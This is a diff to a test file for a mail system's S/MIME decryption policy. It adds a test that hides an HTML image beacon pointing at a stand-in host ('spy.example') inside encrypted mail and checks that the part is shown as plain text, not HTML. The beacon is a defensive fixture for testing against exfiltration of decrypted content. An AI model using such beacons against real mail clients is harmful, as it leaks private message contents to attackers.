@@ -61,7 +61,7 @@ describe('a domain with S/MIME in the table', () => {
       filesB: (dnsPort) => ({
         ...trusting(dnsPort),
         'config/host_list': domainsB,
-        'config/hisho.yaml': `local: [${domainsB.join(', ')}]\nsenders: { ${USER}: ['*@b.example'] }\ndomains:\n  a.example: { encrypt: required, scheme: smime, smime: modern }\n`,
+        'config/hisho.yaml': `local: [${domainsB.join(', ')}]\nsenders: { ${USER}: ['*@b.example'] }\ndomains:\n  a.example: { encrypt: required, scheme: smime, smime: modern }\n  old.example: { unproven: open }\n`,
         [`${PEM_FOLDER}/alice@a.example.pem`]: alice.certificate,
       }),
     })
@@ -149,6 +149,27 @@ describe('a domain with S/MIME in the table', () => {
     const found = await arrived()
     assert.match(found, /^Hisho-Not-Decrypted: policy; /m)
     assert.doesNotMatch(found, /the secret|Hisho-Decrypted:/)
+  })
+
+  it('C2: where the table says so it is opened, marked, alone, and nothing in it is shown as HTML', async () => {
+    const entity =
+      'Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n' +
+      '<img src="http://spy.example/?the secret">\r\n--b--\r\n'
+    const sealed = sealContent(Buffer.from(entity), [bob.der], 'compat')
+    const wire = asMail(sealed, { From: 'carol@old.example', 'X-Html': '<img src="http://spy' })
+    assert.equal((await deliver(wire)).code, 250)
+    const opened = await arrived()
+    assert.match(
+      opened,
+      /^Hisho-Decrypted: smime; .*; integrity=unproven; active_content=text; signature=unchecked\r$/m,
+    )
+    const shown = entity.replace('text/html', 'text/plain').replace('utf-8', '"utf-8"')
+    assert.ok(opened.endsWith(shown), opened)
+    // With a part of somebody else's behind it, it is no S/MIME message any more.
+    world.inboxB.clear()
+    const added = '\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>\r\n'
+    assert.equal((await deliver(wire + added)).code, 250)
+    assert.match(await arrived(), /^Hisho-Not-Decrypted: closed; /m)
   })
 
   describe('and openssl', { skip: peer('openssl', 'openssl') }, () => {
